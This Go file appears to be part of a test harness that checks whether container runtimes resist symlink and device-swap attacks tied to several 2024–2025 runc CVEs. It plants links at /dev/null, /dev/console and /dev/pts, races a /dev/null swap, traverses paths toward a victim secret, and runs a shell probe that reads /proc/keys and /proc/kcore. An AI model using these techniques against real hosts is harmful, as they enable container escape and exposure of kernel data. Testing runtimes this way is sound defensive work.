package attack

import (
	"os"
	"path/filepath"
	"strings"

	"golang.org/x/sys/unix"

	"github.com/opencontainers/runtime-spec/specs-go"
)

// deviceAttacks put links where the runtime looks for devices.
var deviceAttacks = []attack{
	{"/dev/null is a link", "CVE-2025-31133", false, nullIsLink},
	{"/dev/null is a link, user namespace", "CVE-2025-31133", false, func(a *testbed) verdict { a.userNamespace(); return nullIsLink(a) }},
	{"devices are links to the host", "CVE-2025-31133, CVE-2024-45310", false, devicesAreLinks},
	{"devices are links to the host, user namespace", "CVE-2025-31133, CVE-2024-45310", false, func(a *testbed) verdict { a.userNamespace(); return devicesAreLinks(a) }},
	{"/dev/console is a link", "CVE-2025-52565", false, consoleIsLink},
	{"/dev/pts/N is a link", "CVE-2025-52565", false, ptsIsLink},
	{"/dev/null swapped while containers start", "CVE-2025-31133", true, nullSwapped},
	{"devices of the host as streams", "", false, devicesAsStreams},
}

// sensitive stands for the files of the host's kernel that masked and read-only
// paths protect. It is one that belongs to the container's own UTS namespace, so
// that an attack that succeeds hurts nobody, and says the container's id.
const sensitive = "/proc/sys/kernel/hostname"

// lookAtMasks tells whether a masked path shows the sensitive file, and whether
// any way to it can be opened for writing.
const lookAtMasks = `echo started
	mount | grep ' ` + sensitive + ` '
	for f in /proc/keys /proc/kcore; do echo "$f is $(head -c 100 $f 2>/dev/null)"; [ "$(stat -L -c %t:%T $f)" != 1:3 ] && (: >>$f) 2>/dev/null && echo "open $f"; done
	(: >>` + sensitive + `) 2>/dev/null && echo "open ` + sensitive + `"
	true`

// masks asks for what docker asks for.
func (a *testbed) masks() {
	a.spec.Linux.MaskedPaths = []string{"/proc/kcore", "/proc/keys", "/sys/firmware"}
	a.spec.Linux.ReadonlyPaths = []string{"/proc/sys", "/proc/sysrq-trigger"}
	a.shell(lookAtMasks)
}

func (a *testbed) judgeMasks(r result) verdict {
	switch {
	case !r.started() && r.code == 0:
		return fall("it ran with its output led to where the image's link points")
	case !r.started():
		return refusal(r.stderr)
	case strings.Contains(r.stdout, " on "+sensitive):
		return fall("it mounted on a file of /proc: %s", line(r.stdout, " on "+sensitive))
	case strings.Contains(r.stdout, "is "+a.id):
		return fall("a masked path shows a file of /proc: %s", line(r.stdout, "is "+a.id))
	case strings.Contains(r.stdout, "open "):
		return fall("a protected path is open for writing: %s", line(r.stdout, "open "))
	}
	return held()
}

// line returns the first line with a text.
func line(text, part string) string {
	for l := range strings.SplitSeq(text, "\n") {
		if strings.Contains(l, part) {
			return l
		}
	}
	return ""
}

func nullIsLink(a *testbed) verdict {
	a.masks()
	a.withoutDev()
	a.must(os.Symlink(sensitive, a.rootfs("dev/null")))
	return a.judgeMasks(a.run())
}

// devicesAreLinks leads every default device out of the image.
func devicesAreLinks(a *testbed) verdict {
	a.masks()
	a.withoutDev()
	up := strings.Repeat("../", 20)
	var tries []verdict
	for _, target := range []string{sensitive, a.victim + "/secret", up + a.victim + "/secret", up + a.victim + "/made"} {
		for _, name := range []string{"null", "zero", "full", "random", "urandom", "tty", "console", "ptmx", "fd", "stdin"} {
			_ = os.Remove(a.rootfs("dev", name))
			a.must(os.Symlink(target, a.rootfs("dev", name)))
			tries = append(tries, a.judgeMasks(a.run()))
			a.must(os.Remove(a.rootfs("dev", name)))
		}
	}
	return worst(tries)
}

func consoleIsLink(a *testbed) verdict {
	a.masks()
	a.withoutDev()
	a.must(os.Symlink(sensitive, a.rootfs("dev/console")))
	a.spec.Mounts = append(a.spec.Mounts, specs.Mount{Destination: "/dev/pts", Type: "devpts", Source: "devpts",
		Options: []string{"nosuid", "noexec", "newinstance", "ptmxmode=0666", "mode=0620"}})
	return a.judgeMasks(a.runTerminal())
}

func ptsIsLink(a *testbed) verdict {
	a.masks()
	a.withoutDev()
	a.must(os.Mkdir(a.rootfs("dev/pts"), 0o755))
	a.must(os.Symlink("/dev/pts/ptmx", a.rootfs("dev/ptmx")))
	for name := range strings.FieldsSeq("0 1 2 3 4 5 ptmx") {
		a.must(os.Symlink(sensitive, a.rootfs("dev/pts", name)))
	}
	return a.judgeMasks(a.runTerminal())
}

// nullSwapped swaps /dev/null of a directory that containers share while they
// start.
func nullSwapped(a *testbed) verdict {
	a.masks()
	a.withoutDev()
	dev := filepath.Join(a.dir, "dev")
	a.must(os.Mkdir(dev, 0o755))
	a.must(unix.Mknod(dev+"/null", unix.S_IFCHR|0o666, int(unix.Mkdev(1, 3))))
	a.must(os.Symlink(sensitive, dev+"/other"))
	a.bind(dev, "/dev")
	defer exchange(dev+"/null", dev+"/other")()
	var tries []verdict
	for range a.rounds {
		tries = append(tries, a.judgeMasks(a.run()))
	}
	return worst(tries)
}

// devicesAsStreams runs as a user with a device of the host as standard input:
// whoever becomes its owner can take it away from everybody.
func devicesAsStreams(a *testbed) verdict {
	a.shell("echo started")
	a.spec.Process.User = specs.User{UID: 1000, GID: 1000}
	var tries []verdict
	for name, minor := range map[string]uint32{"null": 3, "zero": 5, "full": 7, "urandom": 9} {
		a.stdin = a.device(filepath.Join(a.victim, name), minor)
		before := a.inode(a.stdin.Name())
		v := a.judgeStart()
		if now := a.inode(a.stdin.Name()); now != before {
			v = fall("the host's %s was %s and is %s", name, before, now)
		}
		a.must(os.Remove(a.stdin.Name()))
		tries = append(tries, v)
	}
	return worst(tries)
}
